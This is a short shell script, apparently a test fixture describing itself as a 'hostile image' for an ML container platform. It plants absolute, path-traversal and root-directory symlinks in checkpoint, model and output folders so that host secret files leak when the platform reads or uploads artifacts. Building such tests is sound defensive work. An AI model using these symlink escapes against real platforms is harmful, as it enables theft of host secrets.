#!/bin/sh
# A hostile image (issue 22): it plants links to a path of the HOST ($SECRET, a file the container cannot
# see) where the platform reads, packs or uploads what the image wrote. MODE picks the attack.
ckpt=/opt/ml/checkpoints
case "$MODE" in
failure-link)
    ln -s "$SECRET" /opt/ml/output/failure
    exit 2 ;;
ckpt-link)
    echo real > "$ckpt/real.ckpt"
    ln -s real.ckpt "$ckpt/latest"
    ln -s "$ckpt/real.ckpt" "$ckpt/latest-abs"
    ln -s "$SECRET" "$ckpt/stolen"
    ln -s "../../../../../../../../../..$SECRET" "$ckpt/stolen-rel"
    mkdir -p "$ckpt/sub"
    ln -s / "$ckpt/sub/root"
    exit 0 ;;
ckpt-resume)
    find "$ckpt" | sort
    for f in $(find "$ckpt" -type f | sort); do echo "$f: $(cat "$f")"; done
    exit 0 ;;
model-links)
    echo weights > /opt/ml/model/w.bin
    ln -s "$SECRET" /opt/ml/model/abs
    ln -s "../../../../../../../../../..$SECRET" /opt/ml/model/rel-out
    ln -s / /opt/ml/model/rootdir
    ln -s w.bin /opt/ml/model/latest
    mkdir -p /opt/ml/output/data
    echo metrics > /opt/ml/output/data/metrics.txt
    ln -s "$SECRET" /opt/ml/output/data/leak
    exit 0 ;;
model-dangling)
    ln -s /nonexistent/model.pt /opt/ml/model/model.pt
    exit 0 ;;
output-data-link)
    echo weights > /opt/ml/model/w.bin
    rm -rf /opt/ml/output/data
    ln -s "$SECRET_DIR" /opt/ml/output/data
    exit 0 ;;
esac
echo "unknown MODE $MODE" >&2
exit 9
